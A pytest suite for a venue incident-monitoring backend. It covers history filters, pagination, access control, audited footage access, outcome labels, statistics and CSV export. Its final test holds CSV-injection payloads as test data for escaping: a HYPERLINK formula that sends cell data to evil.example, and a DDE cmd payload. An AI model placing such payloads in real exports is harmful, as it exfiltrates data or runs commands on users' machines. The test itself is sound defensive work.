"""Owners' incident history, timelines, audited footage access and the venue's access log."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import UTC, datetime, timedelta
from typing import Any
from urllib.parse import parse_qs, urlsplit

import asyncpg
import httpx
import pytest
from litestar import Litestar
from litestar.testing import AsyncTestClient

from backend.alerts.actions import act
from backend.alerts.schemas import ActionRequest
from backend.core.config import Settings
from kuzet.devtools.push_inbox import PushInbox
from tests.alerting import dispatch_worker, enqueue_dispatch, fcm_env, push_inbox, run_due_jobs
from tests.factories import ALMATY, Factory

__all__ = ["push_inbox"]
Client = AsyncTestClient[Litestar]
T0 = datetime(2026, 11, 6, 22, 0, tzinfo=UTC)


@pytest.fixture
def settings_env(settings_env: dict[str, str], push_inbox: PushInbox) -> dict[str, str]:
    return settings_env | fcm_env(push_inbox)


async def _incident(
    conn: asyncpg.Connection,
    venue_id: uuid.UUID,
    opened_at: datetime,
    *,
    kind: str = "fight",
    status: str = "confirmed",
    outcome: str | None = None,
    snapshot_key: str | None = "v/snap.jpg",
    clip_key: str | None = "v/clip.mp4",
    blurred: bool = True,
) -> uuid.UUID:
    """A past incident with fixed times (test data, as the factories write it); ``blurred``: its
    snapshot has a face-blurred twin."""
    incident_id: uuid.UUID = await conn.fetchval(
        """
        INSERT INTO incidents (venue_id, region_id, kind, status, opened_at, first_seen_at, last_seen_at, outcome,
                               resolved_at, snapshot_key, clip_key, blurred_snapshot_key)
        SELECT id, region_id, $2, $3, $4::timestamptz, $4::timestamptz - interval '3 seconds', $4, $5,
               CASE WHEN $3 = 'resolved' THEN $4::timestamptz + interval '10 minutes' END, $6, $7, $8
        FROM venues WHERE id = $1
        RETURNING id
        """,
        venue_id,
        kind,
        status,
        opened_at,
        outcome,
        snapshot_key,
        clip_key,
        snapshot_key.replace(".jpg", "_blurred.jpg") if snapshot_key and blurred else None,
    )
    return incident_id


async def _attach(conn: asyncpg.Connection, make: Factory, camera: Any, incident_id: uuid.UUID, **decision: Any) -> Any:
    """A detection of ``camera`` confirmed into the incident."""
    row = await make.detection(camera)
    await conn.execute(
        """UPDATE detections SET incident_id = $2, status = 'confirmed', score = $3, decision_reason = $4,
                  model_name = $5, model_version = $6, decided_at = now(), verified_by_server = true
           WHERE id = $1""",
        row.id,
        incident_id,
        decision.get("score", 0.91),
        decision.get("reason", "model score 0.91 >= 0.5"),
        decision.get("model", "kuzet-fight"),
        decision.get("version", "1"),
    )
    return row


class Venues:
    """Owner A with two venues (A1 in region 1, A2 in region 2), owner B with venue B (region 1)."""

    async def build(self, make: Factory) -> Venues:
        self.r1, self.r2 = await make.region(), await make.region()
        self.owner_a = await make.user("owner")
        self.owner_b = await make.user("owner")
        self.a1 = await make.venue(region_id=self.r1.id, owner_id=self.owner_a.id)
        self.a2 = await make.venue(region_id=self.r2.id, owner_id=self.owner_a.id)
        self.b = await make.venue(region_id=self.r1.id, owner_id=self.owner_b.id)
        self.dispatcher_r1 = await make.user("dispatcher", region_id=self.r1.id)
        self.dispatcher_r2 = await make.user("dispatcher", region_id=self.r2.id)
        self.bouncer_a1 = await make.user("bouncer", venue_id=self.a1.id)
        self.officer_r1 = await make.user("officer", region_id=self.r1.id)
        self.admin = await make.user("admin")
        return self


@pytest.fixture
async def venues(make: Factory) -> Venues:
    return await Venues().build(make)


async def _all_pages(client: Client, url: str, headers: dict[str, str], **params: Any) -> list[dict[str, Any]]:
    """Every item, following each page's ``next`` link (it keeps the filters and the limit)."""
    items: list[dict[str, Any]] = []
    response = await client.get(url, params=params, headers=headers)
    while True:
        assert response.status_code == 200, response.text
        page = response.json()
        items += page["items"]
        if page["next_cursor"] is None:
            assert page["next"] is None
            return items
        assert page["next"].startswith(url + "?") and f"cursor={page['next_cursor']}" in page["next"]
        response = await client.get(page["next"], headers=headers)


async def test_history_filters_newest_first(
    venues: Venues, make: Factory, conn: asyncpg.Connection, client: Client
) -> None:
    cam1 = await make.camera(venues.a1.id)
    cam2 = await make.camera(venues.a1.id)
    fight = await _incident(conn, venues.a1.id, T0, status="resolved", outcome="false_alarm")
    surge = await _incident(conn, venues.a1.id, T0 + timedelta(hours=1), kind="crowd_surge", snapshot_key=None)
    weapon = await _incident(conn, venues.a1.id, T0 + timedelta(days=8), kind="weapon", status="acknowledged")
    await _incident(conn, venues.b.id, T0 + timedelta(minutes=5))  # another owner's venue
    await _attach(conn, make, cam1, fight)
    await _attach(conn, make, cam1, fight)
    await _attach(conn, make, cam2, surge)
    url = f"/v1/venues/{venues.a1.id}/incidents"
    auth = make.auth(venues.owner_a)

    async def ids(**params: Any) -> list[uuid.UUID]:
        response = await client.get(url, params=params, headers=auth)
        assert response.status_code == 200, response.text
        return [uuid.UUID(i["id"]) for i in response.json()["items"]]

    assert await ids() == [weapon, surge, fight]
    assert await ids(kind="crowd_surge") == [surge]
    assert await ids(state="resolved") == [fight]
    assert await ids(state="open") == [weapon, surge]
    assert await ids(outcome="false_alarm") == [fight]
    assert await ids(camera_id=str(cam1.camera.id)) == [fight]
    assert await ids(camera_id=str(cam2.camera.id)) == [surge]
    assert await ids(
        **{"from": (T0 + timedelta(minutes=30)).isoformat(), "to": (T0 + timedelta(days=1)).isoformat()}
    ) == [surge]

    response = await client.get(url, headers=auth)
    rows = {i["id"]: i for i in response.json()["items"]}
    row = rows[str(fight)]
    assert row["kind"] == "fight" and row["outcome"] == "false_alarm" and row["status"] == "resolved"
    assert row["detection_count"] == 1  # the incident's own count, as grouping keeps it
    assert datetime.fromisoformat(row["confirmed_at"]) == T0
    assert datetime.fromisoformat(row["detected_at"]) == T0 - timedelta(seconds=3)
    assert datetime.fromisoformat(row["resolved_at"]) == T0 + timedelta(minutes=10)
    assert row["snapshot_url"].endswith(f"/v1/incidents/{fight}/snapshot")
    assert rows[str(surge)]["snapshot_url"] is None


async def test_bad_filters_are_problems_naming_the_field(venues: Venues, make: Factory, client: Client) -> None:
    url = f"/v1/venues/{venues.a1.id}/incidents"
    auth = make.auth(venues.owner_a)
    for params, field in [
        ({"kind": "picnic"}, "kind"),
        ({"state": "lost"}, "state"),
        ({"limit": "0"}, "limit"),
        ({"from": "yesterday"}, "from"),
        ({"camera_id": "cam-1"}, "camera_id"),
        ({"cursor": "not-a-cursor"}, "cursor"),
        ({"from": T0.isoformat(), "to": (T0 - timedelta(hours=1)).isoformat()}, "to"),
    ]:
        response = await client.get(url, params=params, headers=auth)
        assert response.status_code == 422, (params, response.text)
        assert response.headers["content-type"].startswith("application/problem+json")
        assert response.json()["field"] == field, (params, response.text)


async def test_pages_are_stable_under_concurrent_inserts(
    venues: Venues, make: Factory, conn: asyncpg.Connection, client: Client
) -> None:
    before = [await _incident(conn, venues.a1.id, T0 + timedelta(minutes=n)) for n in range(7)]
    # Two incidents opened in the same instant: the id breaks the tie, neither is skipped.
    twins = [await _incident(conn, venues.a1.id, T0 + timedelta(minutes=3)) for _ in range(2)]
    expected = {*before, *twins}
    url = f"/v1/venues/{venues.a1.id}/incidents"
    auth = make.auth(venues.owner_a)
    seen: list[str] = []
    cursor = None
    inserted: list[uuid.UUID] = []
    pages = 0
    while True:
        response = await client.get(url, params={"limit": 2} | ({"cursor": cursor} if cursor else {}), headers=auth)
        assert response.status_code == 200, response.text
        page = response.json()
        seen += [i["id"] for i in page["items"]]
        pages += 1
        # Meanwhile new incidents keep arriving (newer than anything listed so far).
        inserted.append(await _incident(conn, venues.a1.id, datetime.now(UTC)))
        cursor = page["next_cursor"]
        if cursor is None:
            break
    assert len(seen) == len(set(seen)), "an incident was listed twice"
    assert {uuid.UUID(i) for i in seen} == expected  # none skipped, none of the new ones shifted a page
    assert pages == 5  # nine incidents, two a page, no cap on the number of pages
    times = [(i["confirmed_at"], i["id"]) for i in (await _all_pages(client, url, auth, limit=3))]
    assert times == sorted(times, reverse=True)
    assert len(times) == len(expected) + len(inserted)


async def test_who_may_list_a_venues_history(
    venues: Venues, make: Factory, conn: asyncpg.Connection, client: Client
) -> None:
    a1 = await _incident(conn, venues.a1.id, T0)
    a2 = await _incident(conn, venues.a2.id, T0 + timedelta(hours=1))
    b = await _incident(conn, venues.b.id, T0 + timedelta(hours=2))
    url = f"/v1/venues/{venues.a1.id}/incidents"
    for who, status in [
        (venues.owner_a, 200),
        (venues.admin, 200),
        (venues.dispatcher_r1, 200),
        (venues.owner_b, 404),
        (venues.dispatcher_r2, 404),
        (venues.bouncer_a1, 404),
        (venues.officer_r1, 404),
    ]:
        response = await client.get(url, headers=make.auth(who))
        assert response.status_code == status, (who.role, response.text)
    assert (
        await client.get(f"/v1/venues/{uuid.uuid4()}/incidents", headers=make.auth(venues.admin))
    ).status_code == 404
    assert (await client.get(url)).status_code == 401

    async def across(who: Any) -> set[uuid.UUID]:
        return {uuid.UUID(i["id"]) for i in await _all_pages(client, "/v1/incidents", make.auth(who))}

    assert await across(venues.owner_a) == {a1, a2}  # both of owner A's venues, in one list
    assert await across(venues.owner_b) == {b}
    assert await across(venues.dispatcher_r1) == {a1, b}  # the region's venues
    assert await across(venues.admin) >= {a1, a2, b}
    for who in (venues.bouncer_a1, venues.officer_r1):
        assert (await client.get("/v1/incidents", headers=make.auth(who))).status_code == 403
    # A dispatcher's listing is a read the owner is shown.
    log = await conn.fetch("SELECT action, actor_id FROM audit_log WHERE venue_id = $1", venues.a1.id)
    assert ("incident.list", venues.dispatcher_r1.id) in [(r["action"], r["actor_id"]) for r in log]


class Escalated:
    """An incident of owner A's venue that went through escalation, with a failed delivery."""

    async def build(self, make: Factory, conn: asyncpg.Connection, settings: Settings, inbox: PushInbox) -> Escalated:
        km = 1 / 111.32
        region = await make.region()
        self.owner = await make.user("owner", display_name="Owner Asel")
        self.other_owner = await make.user("owner")
        self.venue = await make.venue(region_id=region.id, owner_id=self.owner.id)
        self.bouncer = await make.user("bouncer", venue_id=self.venue.id, display_name="Aidos")
        self.officer = await make.user("officer", region_id=region.id, display_name="Seitkali")
        self.dispatcher = await make.user("dispatcher", region_id=region.id)
        await make.on_duty(self.bouncer)
        await make.located(self.officer, ALMATY[0] + 0.5 * km, ALMATY[1])
        bouncer_token = f"tok-{uuid.uuid4().hex}"
        await make.device(self.bouncer, token=bouncer_token)
        await make.device(self.officer)
        inbox.fail(bouncer_token, "UNREGISTERED")  # the bouncer's phone is gone: a permanent failure
        camera = await make.camera(self.venue.id)
        self.incident = await make.incident(
            self.venue.id, snapshot_key="v/snap.jpg", clip_key="v/clip.mp4", blurred_snapshot_key="v/snap_blurred.jpg"
        )
        self.detection = await _attach(conn, make, camera, self.incident, score=0.87, reason="model 0.87 >= 0.5")
        await enqueue_dispatch(conn, self.incident)
        async with dispatch_worker(settings) as ctx:
            await run_due_jobs(ctx)
            # Nobody acknowledged: step 1 is due (its timer fires now, or already fired because the
            # bouncer's only phone is unreachable).
            await conn.execute(
                "UPDATE jobs SET run_at = now() WHERE kind = 'escalate_incident' AND dedup_key = $1",
                f"{self.incident}:step:1",
            )
            await run_due_jobs(ctx)
            for action in ("accept", "resolve"):
                async with conn.transaction():
                    request = ActionRequest(action=action, outcome="handled" if action == "resolve" else None)  # type: ignore[arg-type]
                    await act(conn, settings, make.principal(self.officer), self.incident, request)
            await run_due_jobs(ctx)
        return self


@pytest.fixture
async def escalated(make: Factory, conn: asyncpg.Connection, settings: Settings, push_inbox: PushInbox) -> Escalated:
    return await Escalated().build(make, conn, settings, push_inbox)


async def test_timeline_of_an_escalated_incident_with_a_failed_delivery(
    escalated: Escalated, make: Factory, conn: asyncpg.Connection, client: Client
) -> None:
    e = escalated
    viewed = await client.get(f"/v1/incidents/{e.incident}/clip", headers=make.auth(e.officer), follow_redirects=False)
    assert viewed.status_code == 302
    response = await client.get(f"/v1/incidents/{e.incident}/timeline", headers=make.auth(e.owner))
    assert response.status_code == 200, response.text
    body = response.json()
    entries = body["entries"]
    times = [datetime.fromisoformat(x["at"]) for x in entries]
    assert times == sorted(times)
    types = [x["type"] for x in entries]
    [detected] = [x for x in entries if x["type"] == "detected"]
    assert detected["data"]["score"] == 0.87 and detected["data"]["model"] == "kuzet-fight"
    assert detected["data"]["reason"] == "model 0.87 >= 0.5" and detected["data"]["decision"] == "confirmed"
    for expected in ("notified", "escalated", "accepted", "resolved", "footage.view.clip"):
        assert expected in types, (expected, types)
    [failed] = [x for x in entries if x["type"] == "notification_failed"]
    assert failed["actor_name"] == "Aidos" and failed["data"]["reason"] == "UNREGISTERED"
    sent = [x for x in entries if x["type"] == "notification_sent"]
    assert "Seitkali" in {x["actor_name"] for x in sent}
    queued = [x for x in entries if x["type"] == "notification_queued"]
    assert len(queued) >= 2
    [accepted] = [x for x in entries if x["type"] == "accepted"]
    assert accepted["actor_name"] == "Seitkali" and accepted["actor_role"] == "officer"
    [resolved] = [x for x in entries if x["type"] == "resolved"]
    assert resolved["data"]["outcome"] == "handled"
    [view] = [x for x in entries if x["type"] == "footage.view.clip"]
    assert view["actor_name"] == "Seitkali" and "client" not in view["data"]  # the address is for the access log
    # Officers' distances are location data: not for the owner, there for dispatchers.
    [escalation] = [x for x in entries if x["type"] == "escalated"]
    assert all("distance_m" not in r for r in escalation["data"]["recipients"])
    response = await client.get(f"/v1/incidents/{e.incident}/timeline", headers=make.auth(e.dispatcher))
    [escalation] = [x for x in response.json()["entries"] if x["type"] == "escalated"]
    assert any("distance_m" in r for r in escalation["data"]["recipients"])
    incident = body["incident"]
    assert incident["first_officer_accepted_at"] == accepted["at"]
    assert incident["outcome"] == "handled" and incident["resolved_at"] is not None
    assert (
        await client.get(f"/v1/incidents/{e.incident}/timeline", headers=make.auth(e.other_owner))
    ).status_code == 404
    assert (await client.get(f"/v1/incidents/{uuid.uuid4()}/timeline", headers=make.auth(e.owner))).status_code == 404


async def test_every_footage_access_is_audited_and_shown_to_the_owner(
    escalated: Escalated, make: Factory, conn: asyncpg.Connection, client: Client, storage: Any, settings: Settings
) -> None:
    e = escalated
    for who, kind in [(e.owner, "snapshot"), (e.officer, "clip"), (e.dispatcher, "snapshot")]:
        response = await client.get(
            f"/v1/incidents/{e.incident}/{kind}", headers=make.auth(who), follow_redirects=False
        )
        assert response.status_code == 302, response.text
        assert response.headers["cache-control"] == "no-store"
        url = urlsplit(response.headers["location"])
        query = parse_qs(url.query)
        expires = int((query.get("X-Amz-Expires") or query.get("Expires") or ["0"])[0])
        assert 0 < expires <= 300, url
        # The owner sees faces blurred; responders (the dispatcher here) the clear snapshot.
        wanted = {"clip": "v/clip.mp4", "snapshot": "v/snap_blurred.jpg" if who is e.owner else "v/snap.jpg"}
        assert url.path.endswith(wanted[kind])
    for who in (e.other_owner,):
        response = await client.get(f"/v1/incidents/{e.incident}/clip", headers=make.auth(who), follow_redirects=False)
        assert response.status_code == 404
    rows = await conn.fetch(
        """SELECT actor_id, actor_role, action, detail, at FROM audit_log
           WHERE action LIKE 'footage.view.%' AND detail->>'via' = 'api' ORDER BY id"""
    )
    assert [(r["actor_id"], r["actor_role"], r["action"]) for r in rows] == [
        (e.owner.id, "owner", "footage.view.snapshot"),
        (e.officer.id, "officer", "footage.view.clip"),
        (e.dispatcher.id, "dispatcher", "footage.view.snapshot"),
    ]
    assert all(r["detail"]["client"] for r in rows)  # from which address

    # Police-side reads of the incident are shown too (the owner's own reads are not).
    assert (await client.get(f"/v1/incidents/{e.incident}", headers=make.auth(e.officer))).status_code == 200
    assert (
        await client.get(f"/v1/incidents/{e.incident}/timeline", headers=make.auth(e.dispatcher))
    ).status_code == 200
    assert (await client.get(f"/v1/incidents/{e.incident}/timeline", headers=make.auth(e.owner))).status_code == 200
    log_url = f"/v1/venues/{e.venue.id}/access-log"
    response = await client.get(log_url, headers=make.auth(e.owner))
    assert response.status_code == 200, response.text
    items = response.json()["items"]
    actions = [(i["actor_id"], i["action"]) for i in items]
    assert (str(e.officer.id), "footage.view.clip") in actions
    assert (str(e.dispatcher.id), "footage.view.snapshot") in actions
    assert (str(e.officer.id), "incident.read") in actions
    assert (str(e.dispatcher.id), "incident.read") in actions
    assert str(e.owner.id) not in {i["actor_id"] for i in items if i["action"] == "incident.read"}
    assert {i["actor_role"] for i in items} <= {"officer", "dispatcher", "owner", "admin", "link"}
    ids = [i["id"] for i in items]
    assert ids == sorted(ids, reverse=True)
    # Filter by actor and by time; page through.
    response = await client.get(log_url, params={"actor_id": str(e.officer.id)}, headers=make.auth(e.owner))
    assert {i["actor_id"] for i in response.json()["items"]} == {str(e.officer.id)}
    future = (datetime.now(UTC) + timedelta(hours=1)).isoformat()
    response = await client.get(log_url, params={"from": future}, headers=make.auth(e.owner))
    assert response.json()["items"] == []
    paged = await _all_pages(client, log_url, make.auth(e.owner), limit=1)
    assert [i["id"] for i in paged] == ids
    for who in (e.other_owner, e.dispatcher, e.officer, e.bouncer):
        response = await client.get(log_url, headers=make.auth(who))
        assert response.status_code == 404, who.role


async def test_presigned_footage_url_works_and_is_signed_to_expire(
    escalated: Escalated,
    make: Factory,
    conn: asyncpg.Connection,
    client: Client,
    storage: Any,
    settings_env: dict[str, str],
) -> None:
    """The URL fetches the object, and its signature covers an expiry of KUZET_FOOTAGE_URL_TTL_S from
    now. (moto's server does not refuse expired URLs, so the expiry is read from the signed query
    rather than waited out; S3 and MinIO refuse them with 403.)"""
    from backend.core.config import load_settings
    from backend.history import service

    e = escalated
    await storage.put_bytes("v/clip.mp4", b"clip-bytes", "video/mp4")
    response = await client.get(f"/v1/incidents/{e.incident}/clip", headers=make.auth(e.owner), follow_redirects=False)
    async with httpx.AsyncClient() as http:
        assert (await http.get(response.headers["location"])).content == b"clip-bytes"
    brief = load_settings(settings_env | {"KUZET_FOOTAGE_URL_TTL_S": "7"})
    url = await service.footage(conn, brief, storage, make.principal(e.owner), e.incident, "clip", client="10.0.0.9")
    query = parse_qs(urlsplit(url).query)
    assert query["X-Amz-Expires"] == ["7"]
    assert query["X-Amz-Signature"][0]
    signed_at = datetime.strptime(query["X-Amz-Date"][0], "%Y%m%dT%H%M%SZ").replace(tzinfo=UTC)
    assert abs((datetime.now(UTC) - signed_at).total_seconds()) < 120


def test_a_footage_url_may_not_live_past_five_minutes(settings_env: dict[str, str]) -> None:
    from backend.core.config import ConfigError, load_settings

    with pytest.raises(ConfigError, match="KUZET_FOOTAGE_URL_TTL_S"):
        load_settings(settings_env | {"KUZET_FOOTAGE_URL_TTL_S": "301"})


async def test_outcomes_by_resolver_and_owner_are_labels_per_detection_and_camera(
    escalated: Escalated, make: Factory, conn: asyncpg.Connection, client: Client
) -> None:
    e = escalated
    url = f"/v1/incidents/{e.incident}/outcome"
    # The officer resolved it as "handled": the resolver's verdict, implied, is "real".
    rows = await conn.fetch("SELECT role, source, verdict FROM incident_outcomes WHERE incident_id = $1", e.incident)
    assert [tuple(r) for r in rows] == [("officer", "resolution", "real")]
    for who, status in [(e.other_owner, 404), (e.officer, 403), (e.dispatcher, 403), (e.bouncer, 403)]:
        response = await client.post(url, json={"verdict": "false_alarm"}, headers=make.auth(who))
        assert response.status_code == status, (who.role, response.text)
    response = await client.post(url, json={"verdict": "maybe"}, headers=make.auth(e.owner))
    assert response.status_code == 422 and response.json()["field"] == "verdict"
    response = await client.post(
        url, json={"verdict": "false_alarm", "note": "two friends hugging"}, headers=make.auth(e.owner)
    )
    assert response.status_code == 200, response.text
    body = response.json()
    assert body["verdict"] == "false_alarm"
    assert [(o["role"], o["source"], o["verdict"]) for o in body["outcomes"]] == [
        ("officer", "resolution", "real"),
        ("owner", "review", "false_alarm"),
    ]
    history = f"/v1/venues/{e.venue.id}/incidents"
    response = await client.get(history, params={"verdict": "false_alarm"}, headers=make.auth(e.owner))
    [item] = response.json()["items"]
    assert item["id"] == str(e.incident) and item["verdict"] == "false_alarm" and item["outcome"] == "handled"
    response = await client.get(history, params={"verdict": "real"}, headers=make.auth(e.owner))
    assert response.json()["items"] == []
    timeline = (await client.get(f"/v1/incidents/{e.incident}/timeline", headers=make.auth(e.owner))).json()
    [added] = [x for x in timeline["entries"] if x["type"] == "outcome_added"]
    assert added["actor_role"] == "owner"
    assert added["data"] == {"type": "outcome_added", "verdict": "false_alarm", "note": "two friends hugging"}

    # Labels: per detection, filterable by camera; a rejected detection of another camera has none.
    other = await make.camera(e.venue.id)
    rejected = await make.detection(other)
    await conn.execute(
        """UPDATE detections SET status = 'rejected', score = 0.1, decision_reason = 'model 0.10 < 0.5',
                  decided_at = now() WHERE id = $1""",
        rejected.id,
    )
    labels = f"/v1/venues/{e.venue.id}/labels"
    response = await client.get(labels, headers=make.auth(e.owner))
    assert response.status_code == 200, response.text
    items = {i["detection_id"]: i for i in response.json()["items"]}
    assert items[str(e.detection.id)]["verdict"] == "false_alarm"
    assert items[str(e.detection.id)]["decision"] == "confirmed" and items[str(e.detection.id)]["score"] == 0.87
    assert len(items[str(e.detection.id)]["outcomes"]) == 2
    assert items[str(rejected.id)]["verdict"] is None and items[str(rejected.id)]["decision"] == "rejected"
    response = await client.get(labels, params={"camera_id": str(other.camera.id)}, headers=make.auth(e.owner))
    assert [i["detection_id"] for i in response.json()["items"]] == [str(rejected.id)]
    paged = await _all_pages(client, labels, make.auth(e.owner), limit=1)
    assert {i["detection_id"] for i in paged} == set(items)
    assert (await client.get(labels, headers=make.auth(e.other_owner))).status_code == 404


async def test_an_outcome_needs_a_resolved_incident_and_a_resolver_may_say_unsure(
    venues: Venues, make: Factory, conn: asyncpg.Connection, client: Client
) -> None:
    incident = await make.incident(venues.a1.id)
    response = await client.post(
        f"/v1/incidents/{incident}/outcome", json={"verdict": "real"}, headers=make.auth(venues.owner_a)
    )
    assert response.status_code == 409 and response.json()["field"] == "verdict"
    await make.on_duty(venues.bouncer_a1)
    response = await client.post(
        f"/v1/incidents/{incident}/actions",
        json={"action": "resolve", "outcome": "other", "verdict": "unsure", "note": "left before we got there"},
        headers=make.auth(venues.bouncer_a1),
    )
    assert response.status_code == 200, response.text
    row = await conn.fetchrow("SELECT role, verdict, note FROM incident_outcomes WHERE incident_id = $1", incident)
    assert tuple(row) == ("bouncer", "unsure", "left before we got there")


async def _acted(
    conn: asyncpg.Connection, incident_id: uuid.UUID, *, ack_s: float | None, accept_s: float | None
) -> None:
    """First acknowledgement and first officer acceptance, that many seconds after confirmation."""
    if ack_s is not None:
        await conn.execute(
            "UPDATE incidents SET acknowledged_at = opened_at + make_interval(secs => $2) WHERE id = $1",
            incident_id,
            ack_s,
        )
    if accept_s is not None:
        await conn.execute(
            """INSERT INTO incident_events (incident_id, incident_opened_at, at, type, actor_role)
               SELECT id, opened_at, opened_at + make_interval(secs => $2), 'accepted', 'officer'
               FROM incidents WHERE id = $1""",
            incident_id,
            accept_s,
        )


async def _detected(
    conn: asyncpg.Connection, make: Factory, camera: Any, at: datetime, incident_id: uuid.UUID | None, status: str
) -> None:
    row = await make.detection(camera)
    await conn.execute(
        """UPDATE detections SET received_at = $2, incident_id = $3, status = $4, score = 0.5,
                  decision_reason = 'fixed', decided_at = $2 WHERE id = $1""",
        row.id,
        at,
        incident_id,
        status,
    )


async def test_stats_on_a_fixed_data_set(
    venues: Venues, make: Factory, conn: asyncpg.Connection, client: Client
) -> None:
    v = venues.a1.id  # Asia/Almaty: weeks start on Monday there
    c1 = await make.camera(v, name="Bar")
    c2 = await make.camera(v, name="Door")
    i1 = await _incident(conn, v, T0)  # Fri 22:00 UTC = Sat 03:00 in Almaty: week of Mon 2 Nov
    i2 = await _incident(conn, v, T0 + timedelta(hours=1))
    i3 = await _incident(conn, v, T0 + timedelta(days=1), kind="crowd_surge")  # Sun 03:00 local: same week
    i4 = await _incident(conn, v, T0 + timedelta(days=8), kind="weapon")  # week of Mon 9 Nov
    await _incident(conn, v, T0 - timedelta(days=30))  # outside the range
    await _incident(conn, venues.b.id, T0)  # another venue
    for incident, ack, accept in [(i1, 10, 60), (i2, 20, 120), (i3, 30, None), (i4, 40, None)]:
        await _acted(conn, incident, ack_s=ack, accept_s=accept)
    for camera, incident, status in [
        (c1, i1, "confirmed"),
        (c1, i1, "confirmed"),
        (c1, i2, "confirmed"),
        (c1, None, "rejected"),
        (c2, i3, "confirmed"),
        (c2, None, "rejected"),
    ]:
        await _detected(conn, make, camera, T0 + timedelta(minutes=1), incident, status)
    await _detected(conn, make, c2, T0 - timedelta(days=30), None, "rejected")  # outside the range
    await conn.execute(
        """INSERT INTO incident_outcomes (incident_id, role, source, verdict)
           VALUES ($1, 'owner', 'review', 'false_alarm')""",
        i1,
    )
    params = {"from": (T0 - timedelta(days=1)).isoformat(), "to": (T0 + timedelta(days=10)).isoformat()}
    response = await client.get(f"/v1/venues/{v}/stats", params=params, headers=make.auth(venues.owner_a))
    assert response.status_code == 200, response.text
    stats = response.json()
    assert stats["incidents"] == 4
    assert stats["by_kind"] == {"fight": 2, "crowd_surge": 1, "weapon": 1}
    assert stats["by_week"] == [
        {"week": "2026-11-02", "count": 3, "by_kind": {"crowd_surge": 1, "fight": 2}},
        {"week": "2026-11-09", "count": 1, "by_kind": {"weapon": 1}},
    ]
    assert stats["time_to_first_acknowledgement"] == {"count": 4, "median_s": 25.0, "p90_s": 37.0}
    assert stats["time_to_first_officer_accepted"] == {"count": 2, "median_s": 90.0, "p90_s": 114.0}
    cams = {c["name"]: c for c in stats["cameras"]}
    assert {k: cams["Bar"][k] for k in ("detections", "rejected", "rejected_share", "confirmed", "false_alarms")} == {
        "detections": 4,
        "rejected": 1,
        "rejected_share": 0.25,
        "confirmed": 3,
        "false_alarms": 2,
    }
    assert cams["Bar"]["false_alarm_share"] == 0.6667
    assert (cams["Door"]["detections"], cams["Door"]["rejected_share"], cams["Door"]["false_alarm_share"]) == (
        2,
        0.5,
        0.0,
    )
    response = await client.get(f"/v1/venues/{v}/stats", headers=make.auth(venues.owner_b))
    assert response.status_code == 404
    response = await client.get(
        f"/v1/venues/{v}/stats",
        params={"from": T0.isoformat(), "to": T0.isoformat()},
        headers=make.auth(venues.owner_a),
    )
    assert response.status_code == 422 and response.json()["field"] == "to"


async def test_csv_export_streams_rfc4180_and_parses_back(
    venues: Venues, make: Factory, conn: asyncpg.Connection, client: Client
) -> None:
    from backend.history.stats import CSV_COLUMNS, EXPORT_BATCH

    venue = await make.venue(name='Club "Aurora", Almaty', region_id=venues.r1.id, owner_id=venues.owner_a.id)
    total = EXPORT_BATCH * 2 + 37  # three batches
    await conn.execute(
        """INSERT INTO incidents (venue_id, region_id, kind, status, opened_at, first_seen_at, last_seen_at, outcome,
                                  resolved_at)
           SELECT $1, $2, 'fight', 'resolved', $3::timestamptz + n * interval '1 minute',
                  $3::timestamptz + n * interval '1 minute', $3::timestamptz + n * interval '1 minute', 'handled',
                  $3::timestamptz + n * interval '1 minute' + interval '5 minutes'
           FROM generate_series(1, $4) AS n""",
        venue.id,
        venues.r1.id,
        T0,
        total,
    )
    await _incident(conn, venue.id, T0 + timedelta(days=30), kind="weapon")  # outside the range asked for
    url = f"/v1/venues/{venue.id}/incidents.csv"
    params = {"from": T0.isoformat(), "to": (T0 + timedelta(days=10)).isoformat()}
    response = await client.get(url, params=params, headers=make.auth(venues.owner_a))
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"  # one charset parameter
    assert "attachment" in response.headers["content-disposition"]
    assert response.content.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads it as UTF-8 (Cyrillic)
    text = response.content.decode("utf-8-sig")
    assert text.endswith("\r\n") and "\n" not in text.replace("\r\n", "")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert tuple(rows[0]) == CSV_COLUMNS
    body = [dict(zip(CSV_COLUMNS, r, strict=True)) for r in rows[1:]]
    assert len(body) == total
    assert {r["venue"] for r in body} == {'Club "Aurora", Almaty'}  # quoted, and back intact
    times = [datetime.fromisoformat(r["confirmed_at"]) for r in body]
    assert times == sorted(times, reverse=True) and times[-1] == T0 + timedelta(minutes=1)
    assert len({r["incident_id"] for r in body}) == total
    first = body[0]
    assert first["outcome"] == "handled" and first["status"] == "resolved" and first["first_acknowledged_at"] == ""
    assert datetime.fromisoformat(first["resolved_at"]) - datetime.fromisoformat(first["confirmed_at"]) == timedelta(
        minutes=5
    )
    response = await client.get(url, params={"kind": "weapon"}, headers=make.auth(venues.owner_a))
    assert len(list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))) == 2
    for who in (venues.owner_b, venues.bouncer_a1):
        assert (await client.get(url, headers=make.auth(who))).status_code == 404


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Club")',
        "+7 (727) 000-00-00 Bar",
        "-2+3 Lounge",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\tTabbed Club",
        "\rCarriage Club",
    ],
)
async def test_csv_cells_that_a_spreadsheet_would_run_are_escaped(
    name: str, venues: Venues, make: Factory, conn: asyncpg.Connection, client: Client
) -> None:
    """OWASP CSV injection: a text cell starting with = + - @ tab or CR is prefixed with ' (parsed
    back, the cell is the name behind one quote; every other cell is untouched)."""
    venue = await make.venue(region_id=venues.r1.id, owner_id=venues.owner_a.id)
    # Names reach the database by other ways than the API too (CLI, older rows): written directly.
    await conn.execute("UPDATE venues SET name = $2 WHERE id = $1", venue.id, name)
    incident = await _incident(conn, venue.id, T0, status="resolved", outcome="false_alarm")
    response = await client.get(f"/v1/venues/{venue.id}/incidents.csv", headers=make.auth(venues.owner_a))
    assert response.status_code == 200, response.text
    header, row = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    cells = dict(zip(header, row, strict=True))
    assert cells["venue"] == "'" + name
    assert cells["incident_id"] == str(incident) and cells["outcome"] == "false_alarm"
    assert float(cells["max_score"]) == 0 and cells["detection_count"] == "1"
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in row)
